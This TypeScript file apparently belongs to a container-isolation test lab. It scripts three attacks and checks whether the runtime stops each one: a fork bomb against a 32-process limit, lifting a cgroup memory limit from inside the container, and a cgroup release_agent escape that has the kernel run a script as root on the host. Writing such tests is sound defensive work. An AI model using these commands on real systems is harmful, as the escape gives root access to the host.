/**
 * What if … a container takes all there is; … it lifts its own limit; … it has the kernel run a
 * program of its choice, as the host's root?
 */
import { existsSync, readFileSync, realpathSync, rmSync } from 'node:fs';
import { dirname } from 'node:path';
import { setTimeout } from 'node:timers/promises';
import { noSwap } from '../../lib/cgroups/no-swap.ts';
import { type CgroupPlan, onlyV1 } from '../../lib/cgroups/plan.ts';
import { readStatistics } from '../../lib/cgroups/statistics.ts';
import type { Attack } from '../../lib/lab/lab.ts';
import type { Running, Subject } from '../../lib/lab/subject.ts';
import { processesWithEnv } from '../../lib/observe/process.ts';
import { LEFT, openHierarchy } from './hierarchy.ts';

export const MB = 1024 * 1024;

const DEADLINE_MS = 120_000;

/**
 * Starts so many processes; in a shell of its own, which a refusal may end. `<&0` because there is no
 * /dev/null in the root, from which a shell lets what is in the background read otherwise.
 */
export const forks = (count: number) =>
  `sh -c 'i=0; while [ $i -lt ${count} ]; do sleep 60 <&0 & i=$((i+1)); done'`;

/** tail keeps what may be the last line, all 64 MB of it; prints how much that was. */
export const TAKE = 'printf %67108864d 1 | tail -n 1 | wc -c';
export const TAKEN = String(64 * MB);

/**
 * How many processes the container has after starting that many, or as many as it can. Nothing is
 * waited for in there: a shell that is refused a fork tries again for a quarter of a minute.
 */
export async function countForks(
  box: Running,
  wanted: number,
  plan: CgroupPlan = onlyV1(box.cgroup),
): Promise<number> {
  await box.type(`${forks(wanted)} <&0 &`);
  const count = () => processesWithEnv('container', box.id).length;
  const refused = () => (readStatistics(plan).pids?.maxEvents ?? 0) > 0;
  const deadline = performance.now() + DEADLINE_MS;
  while (count() <= wanted && !refused() && performance.now() < deadline) await setTimeout(20);
  return count();
}

const forkBomb: Attack = {
  name: 'fork-bomb',
  title: 'start 100 processes where 32 are allowed',
  stoppedBy: '07',
  run: async (subject) => {
    await using box = await subject.start({ limits: { pids: { max: 32 } } });
    const count = await countForks(box, 100);
    return { succeeded: count > 100, seen: `${count} processes`, where: 'their environment' };
  },
};

/**
 * Root that may mount gets at the files of its own cgroup. Only one that shows the container's own
 * limit is written to: without a cgroup namespace the mount has the host's files at its root. The
 * limit of memory and swap together goes first, which the other may not be above.
 */
const LIFT = [
  'mkdir -p /tmp/own',
  'mount -t cgroup -o memory cgroup /tmp/own',
  `grep -qx ${32 * MB} /tmp/own/memory.limit_in_bytes && for each in memory.memsw memory; do f=/tmp/own/$each.limit_in_bytes; [ ! -e $f ] || echo -1 > $f; done`,
].join('; ');

const liftLimit: Attack = {
  name: 'lift-limit',
  title: 'take 64 MB where 32 are allowed, after lifting the limit from inside',
  stoppedBy: '07',
  run: async (subject) => {
    const limits = { memory: { max: 32 * MB, ...noSwap() } };
    await using box = await subject.start({ limits });
    const lifting = await box.type(LIFT);
    const taken = await box.type(TAKE);
    const seen = [lifting, taken].filter(Boolean).join('\n');
    return { succeeded: taken.includes(TAKEN), seen, where: `${TAKE}, in the container` };
  },
};

/** What is typed for the escape: a program, a cgroup to be left, whose hierarchy runs the program. */
export const escapeCommands = ({ rootfs }: Subject, name: string): string[] => [
  'mkdir /tmp/cg',
  `mount -t cgroup -o none,name=${name} cgroup /tmp/cg && mkdir /tmp/cg/${LEFT}`,
  `printf '#!/bin/sh\\ncd "%s"\\nid -u > found\\nmv found escaped\\n' '${dirname(realpathSync(rootfs))}' > /agent`,
  'chmod 755 /agent',
  `echo 1 > /tmp/cg/${LEFT}/notify_on_release`,
  `echo '${realpathSync(rootfs)}/agent' > /tmp/cg/release_agent`,
  `sh -c 'echo 0 > /tmp/cg/${LEFT}/cgroup.procs'`,
];

/** What the program has written on the host; null where it was not run. */
export async function untilEscaped({ rootfs }: Subject): Promise<string | null> {
  const path = `${dirname(rootfs)}/escaped`;
  const deadline = performance.now() + DEADLINE_MS;
  while (!existsSync(path) && performance.now() < deadline) await setTimeout(10);
  return existsSync(path) ? readFileSync(path, 'utf8').trim() : null;
}

/** For whoever tries next. */
export function forgetEscape({ rootfs }: Subject): void {
  for (const name of ['rootfs/agent', 'escaped'])
    rmSync(`${dirname(rootfs)}/${name}`, { force: true });
}

async function typeAll(box: Running, commands: readonly string[]): Promise<string> {
  const printed: string[] = [];
  for (const command of commands) printed.push(await box.type(command));
  return printed.filter(Boolean).join('\n');
}

const releaseAgent: Attack = {
  name: 'release-agent',
  title: 'have the kernel run a program as root of the host, by leaving a cgroup',
  stoppedBy: '07',
  run: async (subject) => {
    await using hierarchy = await openHierarchy(subject);
    try {
      await using box = await subject.start();
      const printed = await typeAll(box, escapeCommands(subject, hierarchy.name));
      // What was refused is known at once; what was not may take the kernel a moment.
      const written = printed === '' ? await untilEscaped(subject) : null;
      const seen = written === null ? printed || 'nothing was run' : `run with uid ${written}`;
      return { succeeded: written === '0', seen, where: `${dirname(subject.rootfs)}/escaped` };
    } finally {
      forgetEscape(subject);
    }
  },
};

export const attacks: readonly Attack[] = [forkBomb, liftLimit, releaseAgent];
